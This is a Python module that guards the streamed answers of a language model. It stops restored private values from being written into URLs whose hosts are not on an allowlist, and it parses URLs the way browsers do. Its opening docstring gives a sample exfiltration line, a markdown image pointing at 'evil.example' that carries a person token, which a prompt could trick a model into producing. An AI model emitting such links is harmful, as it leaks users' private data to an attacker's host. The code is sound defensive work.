r"""Where originals may come back (rule 11): into no URL of a host that is not allowed, not into every tool's arguments.

An answer is rendered: its links are followed, its images are loaded. A prompt that talks a model into
`![](https://evil.example/?d=PERSON_K7Q2M9XA)` must get nothing there. What decides is the text before a token alone, so
any cutting of a stream gives the same.

URLs are read as browsers read them (WHATWG URL): `\` counts as `/`, `https:` needs no slashes, `//host` takes the
page's scheme, the host stands behind the last `@`; HTML's `&colon;` and JSON's `\/` are understood.
"""

from __future__ import annotations

import html
import re
from collections.abc import Hashable, Iterable, Mapping
from typing import Any, Final

_START: Final = re.compile(
    r"""
    (?P<web>(?:https?|wss?|ftp):[/\\]*)                    # the slashes may be fewer, more, or leaning
    | (?P<code>(?:javascript|vbscript|data|blob):)          # nobody's host
    | (?P<scheme>[a-z][a-z0-9+.-]{0,40}:)?(?:\\{0,2}/){2}[/\\]*   # any scheme, or the page's own
    | (?P<place>(?:\]\(|=)[ \t]{0,8}[<"']?[ \t\r\n]{0,8})[/\\]{2,}   # where a renderer expects an address
    | (?<![a-z0-9.-])www\.
    """,
    re.IGNORECASE | re.VERBOSE,
)
_HARMLESS: Final = frozenset(
    "postgres postgresql mysql mariadb mongodb redis rediss amqp amqps sqlite mssql sqlserver oracle jdbc odbc nats "
    "kafka ldap ldaps smtp smtps imap imaps pop3 ssh sftp s3 gs az abfs abfss hdfs".split()
)
"""Schemes of addresses that software is configured with; nothing that shows an answer opens them."""
_OPENERS: Final = re.compile(
    r"""(?:(?P<attribute>=)[ \t\r\n]*)?(?P<quote>["'])[ \t\r\n]*\Z|(?P<angle><)\Z|(?P<paren>\()[ \t]*\Z"""
)
_LOOPBACK: Final = frozenset({"localhost", "127.0.0.1", "[::1]"})
_SPACE: Final = re.compile(r"\s")
_BREAKS: Final = re.compile(r"[\t\r\n]+")
_BARE_ENDS: Final = re.compile(r'[\s"<]')
_JSON_ESCAPE: Final = re.compile(r'\\(u[0-9a-fA-F]{4}|["\\/bfnrt])')
_JSON_LETTERS: Final = {"b": "\b", "f": "\f", "n": "\n", "r": "\r", "t": "\t"}
_HOST_ENDS: Final = re.compile(r"[/\\?#]")
_NO_HOST: Final = re.compile(r"[,;|\s\"'<>()\[\]{}*`]")
"""What ends a bare address that has no path yet, so that a table of sites and names is not taken for one address."""
_KEPT: Final = 4096
"""Letters of a channel that are remembered."""
_HEAD: Final = 512
_BEFORE: Final = 64


class Guards:
    """What a policy says about restoring; immutable."""

    __slots__ = ("_allow", "_deny", "_hosts", "any_host", "any_tool")

    def __init__(self, hosts: Iterable[str] = (), allow: Iterable[str] = ("*",), deny: Iterable[str] = ()) -> None:
        """`hosts`: allowed in URLs; `allow` and `deny`: patterns of names of tools, `deny` wins."""
        self._hosts, self._allow, self._deny = tuple(hosts), tuple(allow), tuple(deny)
        self.any_host = "*" in self._hosts
        self.any_tool = "*" in self._allow and not self._deny

    def tool(self, tool: str | Hashable | None, named: Mapping[Any, str]) -> bool:
        """Whether originals may go into a text that belongs to a tool's arguments (None: to none).

        `tool` is its name, or what it was `named` by. Where only some tools may, one without a name may not.
        """
        if tool is None or self.any_tool:
            return True
        name = tool if isinstance(tool, str) else named.get(tool, "")
        if not name or any(_fits(pattern, name) for pattern in self._deny):
            return False
        return any(_fits(pattern, name) for pattern in self._allow)

    def host(self, name: str) -> bool:
        """Whether originals may go into URLs of this host."""
        return name in _LOOPBACK or any(_fits(pattern, name) for pattern in self._hosts)


OPEN: Final = Guards(("*",))
"""Everything may come back everywhere."""


def _fits(pattern: str, name: str) -> bool:
    return re.fullmatch(".*".join(re.escape(part) for part in pattern.split("*")), name, re.DOTALL) is not None


class UrlGuard:
    """Follows one channel of an answer and knows whether its end stands in a URL that no original may go into."""

    __slots__ = ("_guards", "_head", "_tail")

    def __init__(self, guards: Guards) -> None:
        self._guards = guards
        self._head = ""
        self._tail = ""

    def passed(self, text: str, depth: int) -> None:
        """Take note of text that went out; `depth`: the JSON strings that it stands in."""
        self._tail += text
        if len(self._tail) > _KEPT:
            self._shorten(depth)

    def forbids(self, depth: int) -> bool:
        """Whether a token behind all that passed stands in a URL whose host is not allowed."""
        text = self._head + _understood(self._tail, depth)
        if any(not self._allowed(text, start) for start in _open_urls(text)):
            return True
        # In an attribute browsers leave out tabs and line ends, in the middle of a scheme too.
        if "=" not in text or not _BREAKS.search(text):
            return False
        text = _BREAKS.sub("", text)
        starts = [start for start in _open_urls(text) if (opener := _opener(text, start)) and opener["attribute"]]
        return any(not self._allowed(text, start) for start in starts)

    def _allowed(self, text: str, start: re.Match[str]) -> bool:
        if start["code"]:
            return False
        scheme = (start["scheme"] or "")[:-1].lower()
        if scheme.partition("+")[0] in _HARMLESS:
            return True
        authority = text[start.start() :] if start[0].lower() == "www." else text[start.end() :]
        if scheme == "file" and start[0].endswith("///"):
            return True
        end = _HOST_ENDS.search(authority)
        if end is None:
            return False
        host = authority[: end.start()].rpartition("@")[2]
        name = host if host.endswith("]") else host.partition(":")[0]
        return self._guards.host(name.strip().lower().rstrip("."))

    def _shorten(self, depth: int) -> None:
        """Forget what no longer decides: of an open URL all but its beginning, else all but the last letters."""
        text = self._head + _understood(self._tail, depth)
        for start in _open_urls(text):
            if not self._allowed(text, start):
                rest = text[start.end() :]
                unclosed = max(0, rest.count("(") - rest.count(")"))
                # A host of such a length is none, so it stays one that is not allowed.
                self._head = text[max(0, start.start() - _BEFORE) : start.end()] + rest[:_HEAD] + "(" * unclosed
                self._tail = ""
                return
        self._head, self._tail = "", self._tail[-_KEPT // 2 :]


def _understood(text: str, depth: int) -> str:
    """The text as it is read once it is out of the JSON and out of the HTML."""
    for _ in range(depth):
        if "\\" not in text:
            break
        text = _JSON_ESCAPE.sub(_unescaped, text)
    return html.unescape(text) if "&" in text else text


def _unescaped(match: re.Match[str]) -> str:
    escape = match[1]
    return chr(int(escape[1:], 16)) if escape[0] == "u" else _JSON_LETTERS.get(escape, escape)


def _open_urls(text: str) -> list[re.Match[str]]:
    """Beginnings of the URLs that the end of the text is in; of one in another both."""
    return [start for start in _START.finditer(text) if not _ended(text, start)]


def _opener(text: str, start: re.Match[str]) -> re.Match[str] | None:
    """What stands before a URL and says where it ends."""
    before = start["place"] or text[max(0, start.start() - _BEFORE) : start.start()]
    return _OPENERS.search(before)


def _ended(text: str, start: re.Match[str]) -> bool:
    """Whether the URL that begins there ends before the text does."""
    opener = _opener(text, start)
    rest = text[start.end() :]
    if opener is None:
        return _BARE_ENDS.search(rest) is not None or (not start["code"] and _bare_host_ended(rest))
    if opener["quote"]:
        return opener["quote"] in rest or (not opener["attribute"] and "\n" in rest)
    if opener["angle"]:
        return ">" in rest or "\n" in rest
    return _SPACE.search(rest) is not None or _closes(rest)


def _bare_host_ended(rest: str) -> bool:
    end, path = _NO_HOST.search(rest), _HOST_ENDS.search(rest)
    return end is not None and (path is None or end.start() < path.start())


def _closes(text: str) -> bool:
    """Whether a parenthesis closes that was open before."""
    depth = 0
    for letter in text:
        depth += (letter == "(") - (letter == ")")
        if depth < 0:
            return True
    return False
